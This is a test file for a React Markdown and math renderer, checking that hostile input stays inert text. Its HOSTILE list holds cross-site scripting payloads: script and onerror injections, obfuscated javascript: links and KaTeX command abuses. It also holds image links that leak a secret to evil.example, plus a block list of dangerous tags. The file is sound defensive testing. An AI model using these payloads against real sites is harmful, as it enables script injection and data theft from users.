import { renderToStaticMarkup } from 'react-dom/server';
import { beforeAll, describe, expect, it } from 'vitest';
import { loadMath, Markdown } from '.';

const render = (source: string, streaming = false): string =>
  renderToStaticMarkup(<Markdown source={source} streaming={streaming} />);

beforeAll(() => loadMath());

const HOSTILE = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><animate onbegin=alert(1)></svg>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '<style>*{background:url(https://evil.example/x)}</style>',
  '<math><mtext><script>alert(1)</script></mtext></math>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](\\javascript:alert(1))',
  '[x](<javascript:alert(1)>)',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](vbscript:msgbox(1))',
  '[x](file:///etc/passwd)',
  '[x](//evil.example)',
  '[x][y]\n\n[y]: javascript:alert(1)',
  '<javascript:alert(1)>',
  '![x](https://evil.example/?q=secret)',
  '![x](//evil.example/?q=secret)',
  '![x](http://evil.example/?q=secret)',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml;base64,PHN2Zy8+)',
  '![x](/api/files/../logout)',
  '![x][y]\n\n[y]: https://evil.example/?q=secret',
  '[![x](https://evil.example/?q=secret)](https://evil.example)',
  '![x](https://evil.example/a.png "onerror=alert(1)")',
  '$\\href{javascript:alert(1)}{x}$',
  '$\\url{javascript:alert(1)}$',
  '$\\includegraphics{https://evil.example/x.png}$',
  '$\\htmlClass{x}{y} \\htmlStyle{background:url(https://evil.example)}{y} \\htmlData{onclick=alert(1)}{y}$',
  '$\\text{<img src=x onerror=alert(1)>}$',
  '$<img/src=x onerror=alert(1)> \\undefined$',
  '$\\unicode{<script>}\\"><script>alert(1)</script>$',
  '$$\\color{red;background:url(https://evil.example)}{x}$$',
  '$$\\textcolor{url(https://evil.example)}{x}$$',
  '```"><script>alert(1)</script>\ncode\n```',
  '```js" onclick="alert(1)\n</code><script>alert(1)</script>\n```',
  '| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |',
  '# <script>alert(1)</script>',
  '- [x] <img src=x onerror=alert(1)>',
];

/** What a browser would do: every element, attribute and address in the markup. */
function elements(html: string): { tag: string; attributes: [name: string, value: string][] }[] {
  return [...html.matchAll(/<([a-zA-Z][\w-]*)((?:\s+[\w:-]+(?:="[^"]*")?)*)\s*\/?>/g)].map(
    ([, tag, rest]) => ({
      tag: tag as string,
      attributes: [...(rest as string).matchAll(/([\w:-]+)(?:="([^"]*)")?/g)].map(([, name, value]) => [
        name as string,
        value ?? '',
      ]),
    }),
  );
}

describe('hostile text', () => {
  it.each(HOSTILE)('stays text: %s', (source) => {
    for (const streaming of [false, true]) {
      const found = elements(render(source, streaming));
      for (const { tag, attributes } of found) {
        expect([
          'script',
          'iframe',
          'style',
          'object',
          'embed',
          'form',
          'base',
          'meta',
          'link',
        ]).not.toContain(tag);
        for (const [name, value] of attributes) {
          expect(name).not.toMatch(/^on/i);
          if (name === 'href') expect(value).toMatch(/^https?:\/\/|^mailto:/);
          if (name === 'src' || name === 'srcset' || name === 'poster')
            expect(value).toMatch(/^\/api\/files\/[\w-]+$/);
          if (name === 'style') expect(value).not.toMatch(/url\(|expression/i);
        }
      }
      expect(found.some(({ tag }) => tag === 'img')).toBe(false);
    }
  });

  it('shows HTML as it was written', () => {
    expect(render('<b onclick="x()">hi</b>')).toContain('&lt;b onclick=&quot;x()&quot;&gt;hi&lt;/b&gt;');
  });

  it('links to pictures of other sites instead of fetching them', () => {
    const html = render('![A chart](https://other.example/chart.png)');
    expect(html).toContain('class="md-chip"');
    expect(html).toContain('href="https://other.example/chart.png"');
    expect(html).toContain('A chart');
  });

  it.each(['/api/files/0b8c-1', 'data:image/png;base64,iVBORw0KGgo=', 'blob:http://127.0.0.1/x'])(
    'shows its own picture %s',
    (src) => {
      expect(render(`![own](${src})`)).toContain(`<img src="${src}" alt="own"`);
    },
  );

  it('shows a broken formula as its source, in a mark of its own', () => {
    const html = render('$\\frac{1}{<img src=x onerror=alert(1)>$ and on');
    expect(html).toContain('katex-error');
    expect(html).not.toContain('<img');
    expect(html).toContain(' and on');
  });

  it('bounds formulas that expand without end', () => {
    const started = performance.now();
    render('$\\def\\a{\\a\\a}\\a$ $$\\rule{99999em}{99999em}$$ ');
    expect(performance.now() - started).toBeLessThan(500);
  });
});
